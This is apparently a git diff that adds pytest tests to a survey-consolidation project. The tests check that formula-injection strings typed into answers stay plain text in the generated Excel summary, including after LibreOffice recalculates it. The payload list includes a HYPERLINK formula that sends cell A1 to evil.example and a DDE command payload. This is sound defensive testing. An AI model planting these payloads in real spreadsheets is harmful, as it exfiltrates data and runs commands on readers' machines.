@@ -16,6 +16,7 @@ import openpyxl
 import pytest
 
 from vcsurvey.consolidate import consolidate
+from vcsurvey.forms import get_form
 from vcsurvey.xlsx import SHEETS, summary_workbook
 
 try:  # the fixture round lives with the consolidation tests
@@ -324,3 +325,102 @@ def test_libreoffice_computes_the_same_totals(summary: dict) -> None:
     ]
     row = _row_of(wb["Sự cố"], "B", "Tổng cộng")
     assert wb["Sự cố"][f"E{row}"].value == 14
+
+
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-2",
+    "@SUM(A1)",
+)
+
+
+def _poisoned_round() -> dict[str, Any]:
+    """Every text answer of every reply replaced by a formula payload."""
+    rnd = make_round()
+    n = 0
+    for sub in rnd["submissions"]:
+        answers = sub["answers"]
+        kinds = {q.code: q.kind for q in get_form(sub["form_type"]).questions()}
+        for code, value in list(answers.items()):
+            if kinds.get(code) in ("char", "text") and isinstance(value, str):
+                answers[code] = PAYLOADS[n % len(PAYLOADS)]
+                n += 1
+            elif isinstance(value, list):
+                for line in value:
+                    for key in ("name", "position", "symptom", "cause", "fix"):
+                        if line.get(key):
+                            line[key] = PAYLOADS[n % len(PAYLOADS)]
+                            n += 1
+    return rnd
+
+
+def _payload_cells(wb: openpyxl.Workbook) -> list[Any]:
+    return [
+        cell
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value in PAYLOADS
+    ]
+
+
+def test_typed_text_is_never_a_formula() -> None:
+    """Answers such as "=HYPERLINK(...)", DDE payloads, "+1", "-2",
+    "@SUM(A1)" are string cells in every sheet; only totals are formulas."""
+    raw = summary_workbook(consolidate(_poisoned_round()), META)
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    cells = _payload_cells(wb)
+    sheets = {cell.parent.title for cell in cells}
+    assert {"Phần I", "Sự cố", "Cán bộ vận hành", "Kiến nghị"} <= sheets
+    assert {cell.value for cell in cells} == set(PAYLOADS)
+    assert all(cell.data_type == "s" for cell in cells)
+    # the workbook's own totals are still formulas
+    row = _row_of(wb["Sự cố"], "B", "Tổng cộng")
+    assert wb["Sự cố"][f"E{row}"].data_type == "f"
+
+
+def test_libreoffice_keeps_typed_text_as_text() -> None:
+    """After LibreOffice recalculates, the payloads are still plain text."""
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        pytest.skip("LibreOffice is not installed")
+    if not (Path(os.path.realpath(soffice)).parent / "libsclo.so").exists():
+        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
+    with tempfile.TemporaryDirectory() as tmp:
+        work = Path(tmp)
+        (work / "in").mkdir()
+        source = work / "in" / "summary.xlsx"
+        source.write_bytes(summary_workbook(consolidate(_poisoned_round()), META))
+        subprocess.run(
+            [
+                soffice,
+                f"-env:UserInstallation={(work / 'profile').as_uri()}",
+                "--headless",
+                "--convert-to",
+                "xlsx:Calc MS Excel 2007 XML",
+                "--outdir",
+                str(work / "out"),
+                str(source),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=180,
+        )
+        wb = openpyxl.load_workbook(work / "out" / "summary.xlsx", data_only=True)
+    cells = _payload_cells(wb)
+    assert {cell.value for cell in cells} == set(PAYLOADS)
+    assert all(cell.data_type == "s" for cell in cells)
+
+
+def test_characters_xml_cannot_carry_do_not_break_the_workbook() -> None:
+    """A vertical tab or U+FFFE in an answer is dropped, not fatal."""
+    rnd = make_round()
+    for sub in rnd["submissions"]:
+        for code, value in sub["answers"].items():
+            if code.endswith(".location") and isinstance(value, str):
+                sub["answers"][code] = value + "\x0b\ufffe!"
+    wb = openpyxl.load_workbook(io.BytesIO(summary_workbook(consolidate(rnd), META)))
+    texts = [c.value for r in wb["Phần I"].iter_rows() for c in r]
+    assert any(isinstance(t, str) and t.endswith("!") for t in texts)
